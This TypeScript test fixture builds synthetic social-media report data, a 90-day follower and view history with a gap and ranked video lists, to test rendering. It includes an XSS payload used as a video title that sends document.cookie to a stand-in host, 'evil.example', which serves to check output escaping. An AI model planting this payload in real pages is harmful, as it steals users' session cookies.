/** Report results to render: a year-long history with a gap and hostile titles, and a video list. */
import type { ReportResult } from '../../shared/report-result/types.ts';

export const XSS_TITLE = `<img src=x onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script> & "quotes" 'single'`;

export function historyResult(days = 90, gap: [number, number] = [40, 43]): ReportResult {
  const rows: Record<string, unknown>[] = [];
  let followers = 180_000;
  let views = 9_000_000;
  for (let i = 0; i < days; i += 1) {
    const day = new Date(Date.UTC(2024, 5, 1) + i * 86_400_000).toISOString().slice(0, 10);
    const missing = i >= gap[0] && i < gap[1];
    const prevMissing = i - 1 >= gap[0] && i - 1 < gap[1];
    const gain = 120 + ((i * 37) % 90);
    followers += gain;
    const viewGain = 40_000 + ((i * 7919) % 25_000);
    views += viewGain;
    rows.push({
      period: day,
      start: day,
      end: day,
      days: 1,
      days_with_data: missing ? 0 : 1,
      complete: !missing && !prevMissing && i > 0,
      follower_count: missing ? null : followers,
      follower_count_delta: missing || prevMissing || i === 0 ? null : gain,
      video_views: missing ? null : views,
      video_views_delta: missing || prevMissing || i === 0 ? null : viewGain,
    });
  }
  const topVideos = Array.from({ length: 10 }, (_, i) => ({
    rank: i + 1,
    id: String(7_380_000_000_000_000_000n + BigInt(i)),
    title: i === 0 ? XSS_TITLE : `Quick and easy ramen #${i}`,
    create_time: 1_717_000_000 - i * 86_400,
    views: 2_000_000 - i * 150_000,
    views_gained: 900_000 - i * 80_000,
    likes_gained: 40_000 - i * 3_000,
    comments_gained: 900,
    shares_gained: 300,
  }));
  return {
    rows,
    columns: Object.keys(rows[0]!),
    meta: {
      reportType: 'history',
      datasourceId: 'ds_sample',
      fetchedAt: '2024-08-30T06:00:00.000Z',
      pages: 1,
      cursor: null,
      hasMore: false,
      account: { displayName: 'Cora Creator <b>', username: 'sandbox.creator' },
      history: {
        from: rows[0]!.start as string,
        to: rows[rows.length - 1]!.start as string,
        granularity: 'day',
        metrics: ['follower_count', 'video_views'],
        topVideos,
        topVideosFrom: '2024-05-31',
        topVideosTo: rows[rows.length - 1]!.start as string,
      },
    } as ReportResult['meta'],
  };
}

export function videoListResult(): ReportResult {
  const rows = Array.from({ length: 12 }, (_, i) => ({
    id: String(7_380_000_000_000_000_100n + BigInt(i)),
    title: i === 3 ? XSS_TITLE : `Video ${i}`,
    create_time: 1_717_000_000 - i * 86_400,
    view_count: 1000 * ((i * 13) % 17) + 5,
    like_count: 10 * i,
  }));
  return {
    rows,
    columns: Object.keys(rows[0]!),
    meta: { reportType: 'video-list', datasourceId: 'ds_sample', fetchedAt: '2024-08-30T06:00:00.000Z', pages: 1, cursor: null, hasMore: false },
  };
}
